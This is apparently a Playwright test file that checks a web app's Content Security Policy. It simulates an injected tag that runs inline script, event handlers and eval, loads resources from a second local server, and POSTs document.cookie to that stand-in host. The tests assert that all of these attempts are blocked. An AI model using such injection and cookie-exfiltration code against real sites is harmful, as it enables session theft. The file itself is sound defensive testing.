"""What a page of ours may load and do in Chromium, had somebody got a tag of their own onto it."""

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from playwright.sync_api import expect

from tests.support.app import App

TRIES = """async (elsewhere) => {
  const refused = new Set();
  addEventListener("securitypolicyviolation", (event) => refused.add(event.effectiveDirective));
  const add = (tag, attributes) => new Promise((done) => {
    const element = Object.assign(document.createElement(tag), attributes);
    element.onload = element.onerror = done;
    setTimeout(done, 2000);
    document.body.append(element);
  });
  const script = document.createElement("script");
  script.textContent = "window.taken = true";
  document.body.append(script);
  document.body.insertAdjacentHTML("beforeend", `<b onclick="window.taken = true">x</b>`);
  document.body.lastChild.click();
  // Later, because what Playwright itself runs may use eval.
  await new Promise((done) => setTimeout(() => {
    try { (0, eval)("window.taken = true"); } catch { refused.add("eval"); }
    done();
  }));
  const outside = [
    add("script", { src: `${elsewhere}/a.js` }),
    add("img", { src: `${elsewhere}/a.png?q=secret` }),
    add("iframe", { src: `${elsewhere}/page` }),
    add("object", { data: `${elsewhere}/a.swf` }),
    fetch(`${elsewhere}/take`, { method: "POST", body: document.cookie }).catch(() => 0),
  ];
  await Promise.all(outside);
  return { taken: window.taken ?? false, refused: [...refused].sort() };
}"""


@pytest.fixture
def elsewhere() -> Iterator["Elsewhere"]:
    """Serve another site on this machine, which writes down who asks it."""
    server = Elsewhere(("127.0.0.1", 0), _Answers)
    threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True).start()
    yield server
    server.shutdown()
    server.server_close()


class Elsewhere(ThreadingHTTPServer):
    page = ""

    def __init__(self, *args: Any) -> None:
        super().__init__(*args)
        self.asked: list[str] = []
        self.url = f"http://localhost:{self.server_address[1]}"


class _Answers(BaseHTTPRequestHandler):
    server: Elsewhere

    def do_GET(self) -> None:
        self.server.asked.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(self.server.page.encode())

    do_POST = do_GET

    def log_message(self, *_: object) -> None:
        pass


def test_nothing_that_was_smuggled_in_runs_or_calls_home(app: App, elsewhere: Elsewhere) -> None:
    app.open()
    found = app.page.evaluate(TRIES, elsewhere.url)
    assert found["taken"] is False
    for directive in ("script-src-elem", "script-src-attr", "img-src", "frame-src", "connect-src", "eval"):
        assert directive in found["refused"], found
    assert elsewhere.asked == []


def test_a_film_of_youtube_may_be_framed(app: App) -> None:
    app.page.route("https://www.youtube.com/**", lambda route: route.fulfill(body="a film"))
    app.open()
    app.page.evaluate(
        """() => document.body.append(Object.assign(document.createElement("iframe"),
             { id: "film", src: "https://www.youtube.com/embed/abc?start=5" }))"""
    )
    expect(app.page.frame_locator("#film").get_by_text("a film")).to_be_attached()


def test_no_other_site_can_put_our_page_into_its_own(app: App, elsewhere: Elsewhere) -> None:
    elsewhere.page = f'<iframe src="{app.url}"></iframe>'
    app.page.goto(elsewhere.url)
    assert elsewhere.asked
    (framed,) = app.page.main_frame.child_frames
    framed.wait_for_url("chrome-error://chromewebdata/", wait_until="commit")
